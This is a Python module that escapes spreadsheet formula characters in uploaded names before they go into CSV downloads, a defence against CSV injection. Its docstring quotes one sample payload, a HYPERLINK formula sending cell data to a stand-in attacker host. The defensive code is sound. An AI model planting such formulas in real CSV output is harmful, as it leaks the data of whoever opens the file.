"""Text from uploads, made safe to write into a CSV file a spreadsheet will open.

A class or column name comes from a student's file and ends up in the app's CSV
downloads. A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with
``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or NUL before one) as a formula:
``=HYPERLINK("https://evil.example/?"&A1)`` in a class name would send a classmate's
data away when they open the download ("CSV injection", OWASP; CWE-1236). Such a cell
is written with a single quote in front, which spreadsheets read as "this is text";
numbers, negative ones included, are written as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# OWASP's "CSV Injection" page and ASVS 5.0 (V1.2.10): a formula can start with these.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")
# A plain decimal number: a spreadsheet reads it as a number, never as a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: object) -> object:
    """``value`` as a CSV cell no spreadsheet runs as a formula.

    A string starting with one of :data:`FORMULA_PREFIXES` gets a leading ``'``, unless it
    is a plain number such as ``-1.5`` or ``+2e-3``; anything else (other strings,
    numbers, None) is returned unchanged.

    Examples
    --------
    >>> spreadsheet_safe("=1+2"), spreadsheet_safe("-1.5"), spreadsheet_safe("setosa")
    ("'=1+2", '-1.5', 'setosa')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not (
        _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def spreadsheet_safe_row(values: Iterable[object]) -> list[object]:
    """:func:`spreadsheet_safe` of each cell of a row, for ``csv.writer.writerow``."""
    return [spreadsheet_safe(value) for value in values]
